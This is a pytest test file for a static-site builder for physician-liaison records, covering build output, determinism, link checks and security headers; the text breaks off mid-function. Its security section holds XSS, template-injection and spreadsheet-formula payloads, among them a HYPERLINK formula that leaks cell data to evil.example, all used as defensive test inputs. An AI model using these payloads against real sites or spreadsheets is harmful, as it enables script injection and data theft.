"""The site-building stage (SPEC §5 `build`, §6 the site): behaviour of `build`, determinism,
links, security, and golden pages of the worked example.

Every build runs at the as-of date 2026-11-26. Expected values come from the SPEC, the worked
example's data files (tests/fixtures/spec-example-v2, the second edition's example) and its
expected-stats-2026-11-26.json, written out here by hand; never from liaison's own output
(except the golden files, which were read and checked against those sources when they were
accepted).

Golden files
------------
tests/golden/spec-example/<path> holds the expected bytes of key pages of the first edition's
worked example, tests/fixtures/spec-example (the dashboard, the physician directory, a
physician brief, a practice brief, a liaison's call plan and the referral statistics). The
golden tests compare byte for byte. After an intended
change to those pages, rewrite them with

    LIAISON_UPDATE_GOLDEN=1 python3 -m pytest tests/test_build.py -k golden

then READ the diff (`git diff tests/golden`) and check it against the data before committing:
`test_key_pages_show_the_facts_of_the_example` states the facts each page must show, so a
rewritten golden file with wrong figures still fails there.
"""
from __future__ import annotations

import calendar
import csv
import datetime as dt
import io
import json
import os
import re
import shutil
import subprocess
import sys
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import unquote, urlsplit

import pytest
import yaml
from click.testing import CliRunner

from conftest import REPO, SPEC_EXAMPLE, SPEC_EXAMPLE_FIRST_EDITION, _make_writable

AS_OF = "2026-11-26"
GOLDEN = Path(__file__).resolve().parent / "golden" / "spec-example"
UPDATE_GOLDEN = os.environ.get("LIAISON_UPDATE_GOLDEN") == "1"
MARKER = ".liaison-site"
SUMMARY = re.compile(r"\b(\d+) pages\b.*\b\d+(?:\.\d+)? ?(?:s|ms|seconds)$")
DIAGNOSTIC = re.compile(r"^[^:\s]+:\d+:\d+: (error|warning): ")


# ------------------------------------------------------------------------------ helpers


def cli(*args: str) -> tuple[int, str, str]:
    """`liaison ARGS…` in-process: (exit code, stdout, stderr). A traceback fails the test."""
    from liaison.cli import main

    result = CliRunner().invoke(main, list(args))
    if result.exception is not None and not isinstance(result.exception, SystemExit):
        import traceback

        tb = "".join(traceback.format_exception(*result.exc_info))
        raise AssertionError(f"liaison {' '.join(args)} raised instead of reporting:\n{tb}")
    return result.exit_code, result.stdout, result.stderr


def build(root: Path, out: Path | None = None, *extra: str) -> tuple[int, str, str]:
    args = ["build", "--root", str(root), "--as-of", AS_OF, *extra]
    if out is not None:
        args += ["--out", str(out)]
    return cli(*args)


def build_subprocess(root: Path, out: Path, cwd: Path, env_extra: dict | None = None,
                     as_of: str | None = AS_OF) -> subprocess.CompletedProcess:
    """`python build.py build` in a fresh interpreter, in the working directory ``cwd``."""
    env = {**os.environ, **(env_extra or {})}
    args = [sys.executable, str(REPO / "build.py"), "build", "--root", str(root), "--out", str(out)]
    if as_of:
        args += ["--as-of", as_of]
    proc = subprocess.run(args, cwd=cwd, env=env, capture_output=True, text=True, timeout=300)
    assert "Traceback" not in proc.stderr, proc.stderr
    return proc


def snapshot(folder: Path) -> dict[str, bytes | None]:
    """Every file (bytes) and folder (None) under ``folder``, by '/'-separated relative path."""
    out: dict[str, bytes | None] = {}
    for p in sorted(folder.rglob("*")):
        rel = p.relative_to(folder).as_posix()
        out[rel] = None if p.is_dir() else p.read_bytes()
    return out


def assert_same_tree(a: dict, b: dict) -> None:
    assert sorted(a) == sorted(b), "the two builds hold different files"
    differ = [rel for rel in a if a[rel] != b[rel]]
    assert not differ, f"files that differ between the two builds: {differ}"


def copy_site(src: Path, dest: Path) -> Path:
    shutil.copytree(src, dest, ignore=shutil.ignore_patterns("site", ".git", "__pycache__"))
    _make_writable(dest)
    return dest


def stems(folder: Path, *exts: str) -> list[str]:
    return sorted(p.stem for p in folder.iterdir() if p.suffix in exts and p.name != "README.md")


def html_files(out: Path) -> list[Path]:
    return sorted(out.rglob("*.html"))


class Page(HTMLParser):
    """Start tags (name, attrs) and ids of one HTML page; attribute values are unescaped."""

    def __init__(self, text: str):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.ids: set[str] = set()
        self.text_parts: list[str] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))
        for k, v in attrs:
            if k == "id" and v is not None:
                self.ids.add(v)

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)

    def handle_data(self, data):
        self.text_parts.append(data)

    @property
    def text(self) -> str:
        return re.sub(r"\s+", " ", " ".join(self.text_parts))


@pytest.fixture(scope="module")
def module_cache(tmp_path_factory):
    """A private parse cache for the module-scoped builds."""
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("LIAISON_CACHE_DIR", str(tmp_path_factory.mktemp("liaison-cache")))
        yield


@pytest.fixture(scope="module")
def example_build(tmp_path_factory, module_cache):
    """The worked example built once: (exit code, stdout, stderr, output folder)."""
    out = tmp_path_factory.mktemp("example-build") / "site"
    code, stdout, stderr = build(SPEC_EXAMPLE, out)
    assert code == 0, stderr
    return code, stdout, stderr, out


@pytest.fixture(scope="module")
def golden_build(tmp_path_factory, module_cache):
    """The first edition's worked example built once, for the golden pages (regenerated from
    the second edition's once its pages are final): the output folder."""
    out = tmp_path_factory.mktemp("golden-build") / "site"
    code, _stdout, stderr = build(SPEC_EXAMPLE_FIRST_EDITION, out)
    assert code == 0, stderr
    return out


@pytest.fixture(scope="module")
def sample_build(tmp_path_factory, module_cache):
    """The repository's own sample site built once into a temporary folder."""
    out = tmp_path_factory.mktemp("sample-build") / "site"
    code, _stdout, stderr = build(REPO, out)
    assert code == 0, stderr
    return out


def with_error(root: Path) -> None:
    """Make a valid copy of the example invalid: a referral naming an unknown service."""
    with open(root / "data/referrals/2026-10-to-11.csv", "a", encoding="utf-8") as fh:
        fh.write("web,2026-11-20,,no-such-service,\n")


# ---------------------------------------------------------------------- 1. build behaviour


def test_build_exits_0_and_prints_a_one_line_summary(example_build):
    code, stdout, stderr, out = example_build
    assert code == 0
    assert stdout == ""
    lines = stderr.splitlines()
    # the example's four warnings (SPEC §3; its README): an interaction and a referral after
    # 2026-11-26, a listed physician not at the interaction's practice, ruth-kessler over the
    # compliance limit; then the summary: nothing else
    others = [line for line in lines if not DIAGNOSTIC.match(line)]
    assert len([line for line in lines if DIAGNOSTIC.match(line)]) == 4, stderr
    assert len(others) == 1, stderr
    m = SUMMARY.search(others[0])
    assert m, f"not a one-line summary (pages, time): {others[0]!r}"
    assert int(m.group(1)) == len(html_files(out))
    files = re.search(r"\b(\d+) files\b", others[0])
    if files:
        assert int(files.group(1)) == sum(1 for p in out.rglob("*") if p.is_file())


def test_build_output_layout(example_build):
    out = example_build[3]
    phys = stems(SPEC_EXAMPLE / "data/physicians", ".yaml", ".yml")
    practices = stems(SPEC_EXAMPLE / "data/practices", ".yaml", ".yml")
    team = stems(SPEC_EXAMPLE / "data/team", ".yaml", ".yml")
    guides = stems(SPEC_EXAMPLE / "content/training", ".md")
    assert len(phys) == 6 and len(practices) == 3 and team == ["lena-brooks", "owen-price"]
    expected = [
        "index.html", "physicians/index.html", "practices/index.html", "team/index.html",
        "activity/index.html", "follow-ups/index.html", "referrals/index.html",
        "training/index.html", "presentations/index.html",
        *[f"physicians/{p}/index.html" for p in phys],
        *[f"practices/{p}/index.html" for p in practices],
        *[f"team/{t}/index.html" for t in team],
        *[f"training/{g}/index.html" for g in guides],
        # venous-basics.md: targets [mountain-view-family-medicine, hendersonville-womens-health]
        "presentations/venous-basics/index.html",
        "presentations/venous-basics/mountain-view-family-medicine/index.html",
        "presentations/venous-basics/hendersonville-womens-health/index.html",
        "stats.json", "exports/physicians.csv", "exports/interactions.csv",
        "exports/referrals-by-month.csv", "calendar.ics", "calendar/lena-brooks.ics",
        "robots.txt", "assets/style.css", "assets/app.js", MARKER,
    ]
    missing = [rel for rel in expected if not (out / rel).is_file()]
    assert not missing, missing
    # a deck is customized only for its targets
    assert not (out / "presentations/venous-basics/french-broad-podiatry").exists()
    robots = (out / "robots.txt").read_text(encoding="utf-8").splitlines()
    assert "Disallow: /" in robots and "User-agent: *" in robots
    assert (out / "assets/style.css").stat().st_size > 0
    assert (out / "calendar.ics").read_bytes().startswith(b"BEGIN:VCALENDAR")
    assert (out / "calendar/lena-brooks.ics").read_bytes().startswith(b"BEGIN:VCALENDAR")
    header = (out / "exports/physicians.csv").read_text(encoding="utf-8").splitlines()[0]
    assert header.startswith("id,name,")


def test_stats_json_is_the_stats_command_output_byte_for_byte(example_build):
    out = example_build[3]
    code, stdout, _stderr = cli("stats", "--root", str(SPEC_EXAMPLE), "--as-of", AS_OF, "--json")
    assert code == 0
    assert (out / "stats.json").read_bytes() == stdout.encode("utf-8")
    expected = json.loads((SPEC_EXAMPLE / "expected-stats-2026-11-26.json").read_text())
    assert json.loads((out / "stats.json").read_text(encoding="utf-8")) == expected


def test_customized_decks_have_their_pptx_beside_them(example_build):
    """SPEC §6: presentations/<deck>/<practice>/ holds the customized deck 'with its .pptx
    beside it': one slide per slide (venous-basics.md has 3), speaker notes in the notes pane."""
    out = example_build[3]
    for practice, name in (("mountain-view-family-medicine", "Mountain View Family Medicine"),
                           ("hendersonville-womens-health", "Hendersonville Women's Health")):
        folder = out / "presentations/venous-basics" / practice
        pptx = sorted(folder.glob("*.pptx"))
        assert len(pptx) == 1, f"no .pptx in {folder.relative_to(out)}"
        assert pptx[0].read_bytes()[:2] == b"PK"  # a .pptx is a zip
        page = (folder / "index.html").read_text(encoding="utf-8")
        assert f'href="{pptx[0].name}"' in page, "the deck page links to its .pptx"
        presentation = pytest.importorskip("pptx").Presentation(str(pptx[0]))
        slides = list(presentation.slides)
        assert len(slides) == 3
        texts = [" ".join(sh.text_frame.text for sh in s.shapes if sh.has_text_frame)
                 for s in slides]
        assert name in texts[0] and "When to refer" in texts[1]
        assert "Thank the team for their time" in slides[0].notes_slide.notes_text_frame.text
        assert "Hand out the referral criteria card." in \
            slides[1].notes_slide.notes_text_frame.text


def test_data_with_errors_exits_1_and_writes_nothing(example_site, tmp_path):
    with_error(example_site)
    out = tmp_path / "nested" / "out"
    code, stdout, stderr = build(example_site, out)
    assert code == 1
    assert "data/referrals/2026-10-to-11.csv:13:1: error:" in stderr
    assert not out.exists()
    assert not out.parent.exists(), "not even the parent folder is created"
    # and the default output folder is not created inside the root either
    code, _o, _e = build(example_site)
    assert code == 1
    assert not (example_site / "site").exists()


def test_data_with_errors_leaves_the_previous_site_untouched(example_site, tmp_path):
    out = tmp_path / "out"
    assert build(example_site, out)[0] == 0
    before = snapshot(out)
    parent_before = sorted(p.name for p in tmp_path.iterdir())
    with_error(example_site)
    code, _stdout, stderr = build(example_site, out)
    assert code == 1, stderr
    assert_same_tree(before, snapshot(out))
    assert sorted(p.name for p in tmp_path.iterdir()) == parent_before, "no leftover folders"


def test_strict_turns_the_examples_warnings_into_errors_and_writes_nothing(tmp_path):
    out = tmp_path / "out"
    code, _stdout, stderr = build(SPEC_EXAMPLE, out, "--strict")
    assert code == 1
    # the example's four warnings (see test_build_exits_0_and_prints_a_one_line_summary)
    assert stderr.count(": error: ") == 4 and ": warning: " not in stderr
    assert not out.exists()


def test_refuses_a_non_empty_folder_it_did_not_create(tmp_path):
    out = tmp_path / "precious"
    (out / "sub").mkdir(parents=True)
    (out / "notes.txt").write_text("my notes\n")
    (out / "sub" / "index.html").write_text("<p>my page</p>\n")
    before = snapshot(out)
    parent_before = sorted(p.name for p in tmp_path.iterdir())
    code, _stdout, stderr = build(SPEC_EXAMPLE, out)
    assert code == 1
    assert "refusing" in stderr and str(out) in stderr
    assert_same_tree(before, snapshot(out))
    assert sorted(p.name for p in tmp_path.iterdir()) == parent_before, "no leftover folders"


def test_refuses_the_site_root_itself_as_output(example_site):
    before = snapshot(example_site)
    code, _stdout, stderr = build(example_site, example_site)
    assert code == 1 and "refusing" in stderr
    assert_same_tree(before, snapshot(example_site))


def test_an_empty_existing_folder_is_used(tmp_path):
    out = tmp_path / "empty"
    out.mkdir()
    code, _stdout, stderr = build(SPEC_EXAMPLE, out)
    assert code == 0, stderr
    assert (out / "index.html").is_file() and (out / MARKER).is_file()


def test_replaces_its_own_previous_output(example_site, tmp_path):
    extra = example_site / "data/physicians/zoe-extra.yaml"
    extra.write_text("name: Zoe Extra\nspecialty: Cardiology\npractice: french-broad-podiatry\n")
    out = tmp_path / "outs" / "out"
    assert build(example_site, out)[0] == 0
    assert (out / "physicians/zoe-extra/index.html").is_file()
    (out / "stray.txt").write_text("left by someone\n")
    extra.unlink()
    code, _stdout, stderr = build(example_site, out)
    assert code == 0, stderr
    assert not (out / "physicians/zoe-extra").exists(), "a page of a removed record survived"
    assert not (out / "stray.txt").exists()
    assert (out / "physicians/nina-vargas/index.html").is_file()
    assert sorted(p.name for p in out.parent.iterdir()) == ["out"], "no leftover folders"
    # the result is the same as a build into a fresh folder
    fresh = tmp_path / "fresh"
    assert build(example_site, fresh)[0] == 0
    assert_same_tree(snapshot(out), snapshot(fresh))


def test_out_naming_a_file_exits_1_with_a_message(tmp_path):
    target = tmp_path / "report.pdf"
    target.write_bytes(b"%PDF-1.4 not ours\n")
    code, _stdout, stderr = build(SPEC_EXAMPLE, target)
    assert target.read_bytes() == b"%PDF-1.4 not ours\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["report.pdf"]
    assert code == 1, stderr
    assert str(target) in stderr and "file" in stderr


def test_out_naming_a_file_is_refused_and_left_alone(tmp_path):
    """Whatever the exit code, the file is not replaced and no folder is written."""
    target = tmp_path / "report.pdf"
    target.write_bytes(b"%PDF-1.4 not ours\n")
    code, _stdout, stderr = build(SPEC_EXAMPLE, target)
    assert code != 0
    assert "file" in stderr
    assert target.read_bytes() == b"%PDF-1.4 not ours\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["report.pdf"]


def test_default_out_is_root_site(example_site, tmp_path, monkeypatch):
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    monkeypatch.chdir(elsewhere)
    code, _stdout, stderr = cli("build", "--root", str(example_site), "--as-of", AS_OF)
    assert code == 0, stderr
    assert (example_site / "site/index.html").is_file()
    assert (example_site / "site" / MARKER).is_file()
    assert list(elsewhere.iterdir()) == [], "nothing written in the working directory"
    first = snapshot(example_site / "site")
    # a relative --root, and a second build over its own output: the same site
    monkeypatch.chdir(example_site.parent)
    code, _stdout, stderr = cli("build", "--root", example_site.name, "--as-of", AS_OF)
    assert code == 0, stderr
    assert_same_tree(first, snapshot(example_site / "site"))


def test_site_templates_override_builtin_templates_by_file_name(example_site, tmp_path):
    from liaison.render import PACKAGE_TEMPLATES

    marker = "<!-- overridden by the site's own templates/physician.html: q7Zx -->"
    original = (PACKAGE_TEMPLATES / "physician.html").read_text(encoding="utf-8")
    assert "{% block content %}" in original
    (example_site / "templates").mkdir()
    (example_site / "templates/physician.html").write_text(
        original.replace("{% block content %}", "{% block content %}\n" + marker, 1),
        encoding="utf-8")
    out = tmp_path / "out"
    code, _stdout, stderr = build(example_site, out)
    assert code == 0, stderr
    for pid in stems(example_site / "data/physicians", ".yaml", ".yml"):
        page = (out / f"physicians/{pid}/index.html").read_text(encoding="utf-8")
        assert marker in page, pid
    assert "Nina Vargas, MD" in (out / "physicians/nina-vargas/index.html").read_text()
    others = [p for p in html_files(out) if marker in p.read_text(encoding="utf-8")]
    assert sorted(p.relative_to(out).parent.parent.name for p in others) == ["physicians"] * 6


def test_site_assets_override_builtin_assets(example_site, tmp_path):
    (example_site / "templates/assets").mkdir(parents=True)
    (example_site / "templates/assets/style.css").write_text("/* ours */\nbody{color:#123}\n")
    out = tmp_path / "out"
    assert build(example_site, out)[0] == 0
    assert (out / "assets/style.css").read_text() == "/* ours */\nbody{color:#123}\n"
    assert (out / "assets/app.js").stat().st_size > 0


@pytest.mark.parametrize("body", ["{{ no_such_name }}", "{{ unclosed "])
def test_a_broken_site_template_is_reported_not_a_traceback(example_site, tmp_path, body):
    (example_site / "templates").mkdir()
    (example_site / "templates/physician.html").write_text(
        '{% extends "base.html" %}{% block content %}' + body + "{% endblock %}")
    code, _stdout, stderr = build(example_site, tmp_path / "out")
    assert code == 1
    assert "templates/physician.html" in stderr


@pytest.mark.parametrize("body", ["{{ no_such_name }}", "{{ unclosed "])
def test_a_failed_render_leaves_the_previous_site_whole(example_site, tmp_path, body):
    out = tmp_path / "outs" / "out"
    assert build(example_site, out)[0] == 0
    before = snapshot(out)
    (example_site / "templates").mkdir()
    (example_site / "templates/physician.html").write_text(
        '{% extends "base.html" %}{% block content %}' + body + "{% endblock %}")
    from liaison.cli import main

    result = CliRunner().invoke(main, ["build", "--root", str(example_site), "--out", str(out),
                                       "--as-of", AS_OF])
    assert result.exit_code != 0
    assert_same_tree(before, snapshot(out))
    assert sorted(p.name for p in out.parent.iterdir()) == ["out"], "no leftover folders"


# ------------------------------------------------------------------------- 2. determinism


def test_two_builds_are_byte_identical_across_working_directories_and_time_zones(
        tmp_path, monkeypatch):
    (tmp_path / "cwd-a").mkdir()
    (tmp_path / "cwd-b").mkdir()
    a, b = tmp_path / "a" / "site", tmp_path / "b" / "elsewhere"
    monkeypatch.chdir(tmp_path / "cwd-a")
    code, _stdout, stderr = build(SPEC_EXAMPLE, a)
    assert code == 0, stderr
    proc = build_subprocess(SPEC_EXAMPLE, b, tmp_path / "cwd-b", {"TZ": "Pacific/Kiritimati"})
    assert proc.returncode == 0, proc.stderr
    tree_a, tree_b = snapshot(a), snapshot(b)
    assert len([k for k in tree_a if k.endswith(".html")]) > 30
    assert any(k.endswith(".pptx") for k in tree_a) and "calendar.ics" in tree_a
    assert_same_tree(tree_a, tree_b)


def test_same_input_at_another_path_builds_the_same_bytes(example_site, tmp_path):
    a, b = tmp_path / "a", tmp_path / "b"
    assert build(SPEC_EXAMPLE, a)[0] == 0
    proc = build_subprocess(Path(example_site.name), b, example_site.parent,
                            {"TZ": "America/Adak"})
    assert proc.returncode == 0, proc.stderr
    assert_same_tree(snapshot(a), snapshot(b))


def test_source_date_epoch_gives_the_utc_date(tmp_path):
    """SOURCE_DATE_EPOCH at 2026-11-26 12:00 UTC is already 2026-11-27 in Kiritimati (UTC+14):
    the build must use the UTC date, and so equal the --as-of 2026-11-26 build."""
    a, b = tmp_path / "a", tmp_path / "b"
    assert build(SPEC_EXAMPLE, a)[0] == 0
    epoch = calendar.timegm(dt.datetime(2026, 11, 26, 12, 0, 0).timetuple())
    proc = build_subprocess(SPEC_EXAMPLE, b, tmp_path, as_of=None,
                            env_extra={"TZ": "Pacific/Kiritimati", "SOURCE_DATE_EPOCH": str(epoch)})
    assert proc.returncode == 0, proc.stderr
    assert_same_tree(snapshot(a), snapshot(b))


def test_the_sample_site_builds_byte_identically_twice(sample_build, tmp_path):
    other = tmp_path / "again"
    proc = build_subprocess(REPO, other, tmp_path, {"TZ": "Pacific/Kiritimati"})
    assert proc.returncode == 0, proc.stderr
    tree_a, tree_b = snapshot(sample_build), snapshot(other)
    assert len([k for k in tree_a if k.endswith(".html")]) > 50
    assert_same_tree(tree_a, tree_b)


# -------------------------------------------------------------------------- 3. link check

URL_ATTRS = {"href", "src", "action", "formaction", "poster", "srcset", "data", "xlink:href",
             "background", "cite"}


def link_problems(out: Path) -> list[str]:
    """Every broken or forbidden reference of a built site, as readable lines."""
    pages = {p.resolve(): Page(p.read_text(encoding="utf-8")) for p in html_files(out)}
    problems = []
    root = out.resolve()
    for path, page in pages.items():
        rel = path.relative_to(root).as_posix()
        for tag, attrs in page.tags:
            for name, value in attrs:
                if name not in URL_ATTRS or value is None:
                    continue
                where = f"{rel}: <{tag} {name}={value!r}>"
                url = urlsplit(value.strip())
                if url.scheme == "data" and (tag, name) in (("img", "src"), ("link", "href")) \
                        and not _url_is_dangerous(value):
                    continue  # inline data: nothing is fetched
                if url.scheme or value.strip().startswith("//"):
                    if name != "href" or tag in ("link", "base"):
                        problems.append(f"{where}: loads from another host")
                    elif url.scheme not in ("http", "https", "mailto", "tel"):
                        problems.append(f"{where}: scheme {url.scheme!r}")
                    continue
                if url.path.startswith("/"):
                    problems.append(f"{where}: absolute path (the site must work under any prefix)")
                    continue
                if url.path.endswith("/") or url.path in (".", ".."):
                    problems.append(f"{where}: names a folder, not index.html (breaks from disk)")
                    continue
                target = (path.parent / unquote(url.path)).resolve() if url.path else path
                try:
                    target.relative_to(root)
                except ValueError:
                    problems.append(f"{where}: leaves the site")
                    continue
                if not target.is_file():
                    problems.append(f"{where}: no such file")
                    continue
                if url.fragment and target.suffix == ".html":
                    if unquote(url.fragment) not in pages[target].ids:
                        problems.append(f"{where}: no id {url.fragment!r} in the target page")
    return problems


def own_asset(page: Path, url: str | None, out: Path, suffix: str) -> bool:
    """Whether ``url`` (from ``page``) names an existing file of the site's assets/ folder."""
    if not url or urlsplit(url).scheme or url.startswith(("/", "//")) or not url.endswith(suffix):
        return False
    target = (page.parent / url).resolve()
    return target.parent == (out / "assets").resolve() and target.is_file()


def allowed_link(page: Path, attrs: dict, out: Path) -> bool:
    """<link>: our own stylesheet, or an icon that is inline data or our own file."""
    href = attrs.get("href") or ""
    if attrs.get("rel") == "stylesheet":
        return own_asset(page, href, out, ".css")
    if attrs.get("rel") in ("icon", "shortcut icon"):
        return (href.startswith("data:") and not _url_is_dangerous(href)) or \
            own_asset(page, href, out, href.rsplit(".", 1)[-1] if "." in href else "\0")
    return False


def head_problems(out: Path) -> list[str]:
    problems = []
    for path in html_files(out):
        rel = path.relative_to(out).as_posix()
        page = Page(path.read_text(encoding="utf-8"))
        metas = [dict(attrs) for tag, attrs in page.tags if tag == "meta"]
        robots = [m for m in metas if (m.get("name") or "").lower() == "robots"]
        if [m.get("content") for m in robots] != ["noindex, nofollow"]:
            problems.append(f"{rel}: robots meta is {robots}")
        csp = [m for m in metas if (m.get("http-equiv") or "").lower() == "content-security-policy"]
        if len(csp) != 1:
            problems.append(f"{rel}: {len(csp)} Content-Security-Policy meta tags")
            continue
        policy = csp[0].get("content") or ""
        if "unsafe-inline" in policy or "unsafe-eval" in policy or "*" in policy:
            problems.append(f"{rel}: weak policy {policy!r}")
        directives = {d.split()[0]: d.split()[1:] for d in policy.split(";") if d.strip()}
        if directives.get("default-src") != ["'none'"] and directives.get("default-src") != ["'self'"]:
            problems.append(f"{rel}: default-src is {directives.get('default-src')}")
        for d in ("script-src", "style-src", "img-src", "connect-src", "font-src"):
            allowed = ("'self'", "'none'", "data:") if d == "img-src" else ("'self'", "'none'")
            for source in directives.get(d, []):
                if source not in allowed:
                    problems.append(f"{rel}: {d} allows {source}")
        for tag, attrs in page.tags:
            a = dict(attrs)
            if tag == "script" and not own_asset(path, a.get("src"), out, ".js"):
                problems.append(f"{rel}: script {a}")
            if tag == "link" and not allowed_link(path, a, out):
                problems.append(f"{rel}: link {a}")
    return problems


@pytest.fixture(params=["spec-example-v2", "sample-site"])
def built(request):
    return request.getfixturevalue("example_build")[3] if request.param == "spec-example-v2" \
        else request.getfixturevalue("sample_build")


def test_every_relative_link_resolves_to_a_file_and_every_fragment_to_an_id(built):
    assert len(html_files(built)) > 30
    problems = link_problems(built)
    assert not problems, "\n".join(problems)


def test_every_page_has_robots_noindex_and_a_strict_csp_and_loads_nothing_from_elsewhere(built):
    problems = head_problems(built)
    assert not problems, "\n".join(problems)
    for path in html_files(built):
        text = path.read_text(encoding="utf-8")
        for m in re.finditer(r"""\b(?:src|srcset)\s*=\s*["']?\s*(?:https?:)?//""", text, re.I):
            raise AssertionError(f"{path.relative_to(built)}: {m.group(0)}")
        for m in re.finditer(r"""url\(\s*["']?\s*(?:https?:)?//""", text, re.I):
            raise AssertionError(f"{path.relative_to(built)}: {m.group(0)}")
    css = (built / "assets/style.css").read_text(encoding="utf-8")
    assert not re.search(r"""(@import|url\(\s*["']?\s*(https?:)?//)""", css, re.I)


def test_the_link_checker_catches_what_it_must(tmp_path):
    """The checker itself: a folder link, a missing file, a missing id, a remote src."""
    (tmp_path / "a").mkdir()
    (tmp_path / "a/index.html").write_text('<p id="x">x</p>')
    (tmp_path / "index.html").write_text(
        '<a href="a/">f</a><a href="b/index.html">m</a><a href="a/index.html#y">i</a>'
        '<img src="https://cdn.example/x.png"><a href="a/index.html#x">ok</a>'
        '<a href="#top">t</a><a href="https://example.org/">ok</a>')
    problems = link_problems(tmp_path)
    assert len(problems) == 5, problems


# ---------------------------------------------------------------------------- 4. security

SCRIPT = "<script>alert(1)</script>"
IMG = '"><img src=x onerror=alert(1)>'
MD_JS_LINK = "[click](javascript:alert(1))"
A_JS = '<a href="javascript:alert(1)">x</a>'
SVG = "<svg onload=alert(1)>"
IFRAME = '<iframe src="https://evil.example">'
JINJA = "{{ 7*7 }}"
JINJA_ONLY = "{{ 7*7 }} {% if true %}evaluated{% endif %} {{ site.practice.name }}"
PAYLOAD = " ".join([SCRIPT, IMG, MD_JS_LINK, A_JS, SVG, IFRAME, JINJA])
MD_PAYLOAD = "\n\n".join([
    PAYLOAD,
    SCRIPT, IMG, MD_JS_LINK, A_JS, SVG + "</svg>", IFRAME + "</iframe>",
    '<a href="JaVaScRiPt:alert(1)">mixed case</a>',
    '<a href="&#106;avascript:alert(1)">entity</a>',
    '<a href="data:text/html,<script>alert(1)</script>">data</a>',
    "[spaced](  javascript:alert(1)  )",
    '<details open ontoggle=alert(1)><summary>s</summary>d</details>',
    '<div onclick="alert(1)" style="background:url(https://evil.example/x)">div</div>',
    "![remote](https://evil.example/t.png)",
    '<img src="https://evil.example/t.png">',
    '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/e">',
    '<form action="https://evil.example"><input name=q></form>',
    '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<link rel="stylesheet" href="https://evil.example/x.css"><style>body{}</style>',
    JINJA + " {% if true %}evaluated{% endif %}",
])
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
CHART_SVG_ATTRS = {"xmlns", "class", "viewbox", "width", "height", "preserveaspectratio", "role",
                   "aria-label", "font-family", "font-size"}


def _text(label: str) -> str:
    return f"{label} {PAYLOAD}"


def _load(path: Path):
    return yaml.safe_load(path.read_text(encoding="utf-8"))


def _dump(path: Path, data) -> None:
    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False, width=10_000),
                    encoding="utf-8")


def write_hostile_site(dest: Path) -> Path:
    """A copy of the worked example where every text and Markdown field is an injection."""
    copy_site(SPEC_EXAMPLE, dest)
    cfg = _load(dest / "site.yaml")
    cfg["practice"] = {"name": _text("Our practice"), "phone": _text("phone"),
                       "address": _text("address"), "website": _text("javascript:alert(1)")}
    for s in cfg["services"]:
        s["name"] = _text(f"service {s['key']}")
        s["description"] = MD_PAYLOAD
    cfg["tiers"] = {"A": {"visit_every_days": 30}, "B": {"visit_every_days": 60},
                    "C": {"visit_every_days": 120}, PAYLOAD: {"visit_every_days": 45}}
    _dump(dest / "site.yaml", cfg)

    for path in sorted((dest / "data/practices").glob("*.y*ml")):
        p = _load(path)
        for key in ("name", "address", "city", "state", "zip", "phone", "fax", "website",
                    "best_visit_times", "ehr"):
            p[key] = _text(key)
        p["staff"] = [{"name": _text("staff name"), "role": _text("staff role"),
                       "email": _text("staff email"), "phone": _text("staff phone"),
                       "notes": _text("staff notes")}]
        p["ehr"] = JINJA_ONLY  # shown on the page and in the slides: never evaluated
        p["notes"] = MD_PAYLOAD
        p["tags"] = [_text("tag"), PAYLOAD]
        _dump(path, p)

    for path in sorted((dest / "data/physicians").glob("*.y*ml")):
        d = _load(path)
        d["name"] = _text(path.stem)
        for key in ("credentials", "specialty", "email", "phone"):
            d[key] = _text(key)
        d["interests"] = [_text("interest"), PAYLOAD]
        d["tags"] = [_text("tag")]
        d["notes"] = MD_PAYLOAD
        if path.stem == "ruth-kessler":
            d["tier"] = PAYLOAD
        _dump(path, d)

    for path in sorted((dest / "data/team").glob("*.y*ml")):
        t = _load(path)
        t["name"] = _text(path.stem)
        t["email"] = _text("email")
        _dump(path, t)

    for path in sorted((dest / "data/interactions").rglob("*.y*ml")):
        data = _load(path)
        records = data if isinstance(data, list) else [data]
        for r in records:
            r["summary"] = _text("summary")
            r["notes"] = MD_PAYLOAD
            r["needs"] = [_text("need"), PAYLOAD]
            r["met_with"] = [_text("met")]
            for f in r.get("follow_ups", []):
                f["task"] = _text("task")
        if path.name == "2026-11-26-mountain-view-call.yaml":
            records[0]["summary"] = FORMULA
            records[0]["needs"] = ["@SUM(1+1)", "+cmd|calc", "-2+3"]
            records[0]["follow_ups"] = [{"task": _text("task"), "due": dt.date(2026, 11, 30)}]
        _dump(path, data)

    guide = dest / "content/training/referral-source-basics.md"
    front = {"title": _text("guide title"), "audience": "all", "summary": _text("guide summary"),
             "order": 1, "renew_every_days": 365}
    guide.write_text(
        "---\n" + yaml.safe_dump(front, allow_unicode=True, sort_keys=False, width=10_000) + "---\n"
        f"# Guide {SCRIPT}\n\n{MD_PAYLOAD}\n\n## Section {SVG} two\n\n{MD_PAYLOAD}\n\n"
        "| a | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |\n",
        encoding="utf-8")

    deck = dest / "content/presentations/venous-basics.md"
    front = {"title": _text("deck title"), "description": _text("deck description"),
             "targets": ["mountain-view-family-medicine", "hendersonville-womens-health"]}
    literal = "\n\n".join([SCRIPT, IMG, MD_JS_LINK, A_JS, SVG, IFRAME + "</iframe>",
                           '<a href="JaVaScRiPt:alert(1)">y</a>', "![r](https://evil.example/r.png)"])
    deck.write_text(
        "---\n" + yaml.safe_dump(front, allow_unicode=True, sort_keys=False, width=10_000) + "---\n"
        "# Slide one\n\n" + literal + "\n\nNotes: " + SCRIPT + " " + MD_JS_LINK + "\n\n---\n\n"
        "## For {{ practice.name if practice else site.practice.name }}\n\n"
        "EHR: {{ practice.ehr if practice else 'none' }}\n\n"
        "{% for d in physicians %}- {{ d.name }}: {{ d.specialty }}\n{% endfor %}\n\n"
